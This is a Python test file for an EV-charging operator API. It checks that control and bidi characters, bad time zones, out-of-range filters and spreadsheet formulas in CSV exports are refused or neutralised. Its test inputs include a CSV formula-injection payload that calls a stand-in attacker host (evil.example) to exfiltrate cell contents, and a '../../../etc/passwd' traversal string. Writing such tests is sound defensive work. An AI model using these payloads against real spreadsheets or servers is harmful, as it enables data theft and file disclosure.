"""What the operator API accepts: every string, number and filter is checked before anything runs.

A refusal is 422 ``validation_error`` naming the field, and writes nothing; never a 500. Also: the CSV
export cannot carry a spreadsheet formula, and every documented error example is the body that status
really has.
"""

from __future__ import annotations

import csv
import io
from typing import Any
from urllib.parse import quote

import pytest

from adapters.api.inputs import refused_character
from adapters.api.auth import PLATFORM_ADMIN, TENANT_ADMIN
from domain.errors import DomainError
from tests.integration.test_operator_api import Api, api, day, event_count  # noqa: F401  (fixtures)
from tests.e2e.test_projections import Tenant

V = "/operator/v1"
BAD = ["\x00", "\x07", "\x1b[31m", "\x7f", "\x85", "\u202e", "\u2066", "\ud800", "\u2028"]


def test_the_rule_refuses_control_bidi_and_surrogates_and_lets_newlines_into_free_text() -> None:
    for ch in BAD:
        assert refused_character(f"ab{ch}") == (2, ch[0]), repr(ch)
    assert refused_character("Zhangjiang Hub 张江 – ok") is None
    assert refused_character("line 1\nline 2\ttab\r\n", "\t\n\r") is None
    assert refused_character("line 1\nline 2") == (6, "\n")
    assert refused_character("a\x00\n", "\t\n\r") == (1, "\x00")


def calls(a: Tenant, trade: str, ch: str) -> list[tuple[str, str, dict[str, Any] | None, dict[str, Any] | None, str]]:
    """(method, path, json body, query, the field the 422 must name) for every string the API takes."""
    station, pile, q = a.stations[0], a.piles[0], quote(ch)  # in a path, percent-encoded as a client sends it
    return [
        ("post", f"{V}/stations", {"name": f"x{ch}", "address": "", "latitude": 1, "longitude": 1}, None, "body.name"),
        ("post", f"{V}/stations", {"name": "x", "address": f"1 Road{ch}", "latitude": 1, "longitude": 1}, None,
         "body.address"),
        ("post", f"{V}/stations", {"name": "x", "latitude": 1, "longitude": 1, "timezone": f"Asia/Shanghai{ch}"},
         None, "body.timezone"),
        ("patch", f"{V}/stations/{station}", {"name": f"renamed{ch}", "address": ""}, None, "body.name"),
        ("post", f"{V}/piles/{pile}/disable", {"reason": f"maintenance{ch}"}, None, "body.reason"),
        ("post", f"{V}/orders/{trade}/stop", {"reason": f"stop{ch}"}, None, "body.reason"),
        ("post", f"{V}/orders/{trade}/force-close", {"reason": f"stuck{ch}"}, None, "body.reason"),
        ("post", f"{V}/tariffs", {"name": f"night{ch}", "prices": {}, "slots": [0] * 48}, None, "body.name"),
        ("post", f"{V}/refunds", {"driver_id": f"d{ch}", "refund_id": "rf-1", "amount_fen": 1, "provider": "wechat"},
         None, "body.driver_id"),
        ("get", f"{V}/orders", None, {"pile_no": f"3201060001000{ch}"}, "query.pile_no"),
        ("get", f"{V}/orders.csv", None, {"pile_no": f"3201060001000{ch}"}, "query.pile_no"),
        ("get", f"{V}/orders", None, {"cursor": f"MTA{ch}"}, "query.cursor"),
        ("get", f"{V}/alarms", None, {"kind": f"fault{ch}"}, "query.kind"),
        ("get", f"{V}/orders/{trade}{q}", None, None, "path.trade_no"),
        ("post", f"{V}/orders/{trade}{q}/stop", {"reason": "x"}, None, "path.trade_no"),
        ("get", f"{V}/piles/{pile}{q}", None, None, "path.pile_no"),
        ("post", f"{V}/alarms/fault:{pile}{q}/acknowledge", {"note": "x"}, None, "path.alarm_id"),
        ("post", f"{V}/alarms/fault:{pile}/acknowledge", {"note": f"on it{ch}"}, None, "body.note"),
        ("post", f"{V}/piles/{pile}{q}/reboot", None, None, "path.pile_no"),
    ]


@pytest.mark.parametrize("ch", ["\x00", "\x1b", "\u202e"], ids=["nul", "escape", "bidi-override"])
def test_control_characters_are_refused_everywhere_with_the_field_named(api: Api, day: tuple[Tenant, Tenant],
                                                                        ch: str) -> None:
    a, _ = day
    trade = api.client.get(f"{V}/orders", headers=api.token(TENANT_ADMIN, a)).json()["items"][0]["trade_no"]
    admin = api.token(TENANT_ADMIN, a)
    before = event_count(api.ledger)
    for method, path, body, params, field in calls(a, trade, ch):
        r = api.client.request(method.upper(), path, headers=admin, json=body, params=params)
        assert r.status_code == 422, (method, path, field, r.status_code, r.text)
        assert r.json()["code"] == "validation_error", r.text
        assert field in [d["field"] for d in r.json()["details"]], (path, r.text)
    r = api.client.post(f"{V}/tenants", headers=api.token(PLATFORM_ADMIN), json={"name": f"Evil{ch}Co"})
    assert r.status_code == 422 and r.json()["details"][0]["field"] == "body.name"
    assert event_count(api.ledger) == before, "a refused request wrote an event"


def test_free_text_keeps_its_newlines_and_unicode(api: Api, day: tuple[Tenant, Tenant]) -> None:
    a, _ = day
    r = api.client.post(f"{V}/stations", headers=api.token(TENANT_ADMIN, a),
                        json={"name": "张江 Hub – north", "address": "88 Keyuan Rd\nPudong", "latitude": 1,
                              "longitude": 1})
    assert r.status_code == 201, r.text
    got = api.client.get(f"{V}/stations/{r.json()['station_id']}", headers=api.token(TENANT_ADMIN, a)).json()
    assert (got["name"], got["address"]) == ("张江 Hub – north", "88 Keyuan Rd\nPudong")


@pytest.mark.parametrize("zone", ["A" * 300, "../../../etc/passwd", "Mars/Olympus_Mons", "Asia/Shanghai\n", ""])
def test_a_time_zone_not_in_the_iana_database_is_422(api: Api, day: tuple[Tenant, Tenant], zone: str) -> None:
    a, _ = day
    r = api.client.post(f"{V}/stations", headers=api.token(TENANT_ADMIN, a),
                        json={"name": "x", "latitude": 1, "longitude": 1, "timezone": zone})
    assert r.status_code == 422, r.text
    assert r.json()["details"][0]["field"] == "body.timezone"


@pytest.mark.parametrize(("path", "params", "field"), [
    ("orders", {"from": "9999-12-31T23:59:59-14:00"}, "query.from"),
    ("dashboard", {"at": "9999-12-31T23:59:59-14:00"}, "query.at"),
    ("dashboard", {"at": "0001-01-01T00:00:00+14:00"}, "query.at"),
    ("operations", {"before": "9999-12-31T23:59:59-14:00"}, "query.before"),
    ("revenue", {"from": "0001-01-01"}, "query.from"),
    ("operations", {"before": "219"}, "query.before"),  # a bare number is not an instant here
    ("revenue", {"to": "20261122"}, "query.to"),
    ("alarms", {"kind": "k" * 65}, "query.kind"),
    ("orders", {"cursor": "x" * 1100}, "query.cursor"),
])
def test_out_of_range_filters_are_422(api: Api, day: tuple[Tenant, Tenant], path: str, params: dict[str, str],
                                      field: str) -> None:
    a, _ = day
    r = api.client.get(f"{V}/{path}", headers=api.token(TENANT_ADMIN, a), params=params)
    assert r.status_code == 422, r.text
    assert field in [d["field"] for d in r.json()["details"]], r.text


def test_an_amount_beyond_what_storage_holds_is_422(api: Api, day: tuple[Tenant, Tenant]) -> None:
    a, _ = day
    r = api.client.post(f"{V}/refunds", headers=api.token(TENANT_ADMIN, a),
                        json={"driver_id": "3201060001-li", "refund_id": "rf-big", "amount_fen": 2**70,
                              "provider": "wechat"})
    assert r.status_code == 422 and r.json()["details"][0]["field"] == "body.amount_fen"


# ---- CSV: a cell cannot be a formula ----------------------------------------------------------------------
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(api: Api, day: tuple[Tenant, Tenant]) -> None:
    a, _ = day
    admin = api.token(TENANT_ADMIN, a)
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
    orders = []
    for i, reason in enumerate(formulas):
        trade = api.client.post(f"{V}/piles/{a.piles[0]}/start", headers=admin, json={"gun_no": 1 + i % 2})
        if trade.status_code != 202:  # the gun is busy: close what is open on it first
            break
        no = trade.json()["trade_no"]
        r = api.client.post(f"{V}/orders/{no}/force-close", headers=admin, json={"reason": reason})
        if r.status_code == 422:  # a tab or CR is not allowed in a one-line reason at all: nothing to export
            continue
        assert r.status_code == 200, r.text
        orders.append((no, reason))
    assert len(orders) >= 4
    api.sync()
    text = api.client.get(f"{V}/orders.csv", headers=admin).text
    rows = {row["trade_no"]: row for row in csv.DictReader(io.StringIO(text))}
    for no, reason in orders:
        assert rows[no]["reason"] == "'" + reason, rows[no]
    # numbers stay numbers (a negative pile difference is not a formula): only those reasons were quoted
    quoted = {(no, column) for no, row in rows.items() for column, cell in row.items() if cell.startswith("'")}
    assert quoted == {(no, "reason") for no, _ in orders}


# ---- the OpenAPI error examples are the real bodies ------------------------------------------------------
def domain_codes() -> set[str]:
    found, todo = set(), [DomainError]
    while todo:
        cls = todo.pop()
        found.add(cls.code)
        todo.extend(cls.__subclasses__())
    return found


def documented(spec: dict[str, Any]) -> list[tuple[str, str, str, dict[str, Any]]]:
    out = []
    for path, item in spec["paths"].items():
        for method, op in item.items():
            for status, response in op["responses"].items():
                example = response.get("content", {}).get("application/json", {}).get("example")
                if status[0] in "45":
                    out.append((method, path, status, example))
    return out


def test_every_documented_error_example_is_the_real_body_of_that_status(api: Api, day: tuple[Tenant, Tenant]) -> None:
    import adapters.api.operator.router  # noqa: F401  (the routes register their ApiError codes when imported)

    spec = api.client.get("/openapi.json").json()
    expected = {"400": {"http_error"}, "401": {"missing_token", "bad_credentials"},
                "403": {"forbidden_role", "wrong_token_role", "wrong_password"}, "404": {"not_found"},
                "413": {"body_too_large"}, "422": {"validation_error", "invalid_cursor"},
                "503": {"login_busy"},
                "409": domain_codes() | {"payments_not_configured"},
                "429": {"too_many_requests", "too_many_top_ups", "too_many_pending_top_ups", "too_many_streams",
                        "too_many_attempts"}}
    for method, path, status, example in documented(spec):
        assert example is not None, (method, path, status)
        assert example["code"] in expected[status], (method, path, status, example)
        assert isinstance(example["message"], str) and example["message"]
        if status == "422":
            assert example["details"] and "field" in example["details"][0], (method, path)
    # and a call without a token really answers the documented 401 body's code
    for method, path, status, example in documented(spec):
        if status == "401":
            concrete = path.replace("{", "").replace("}", "")
            r = api.client.request(method.upper(), concrete)
            assert r.status_code in (401, 422), (method, path, r.text)
            if r.status_code == 401:
                assert r.json()["code"] == example["code"], (method, path, r.text)
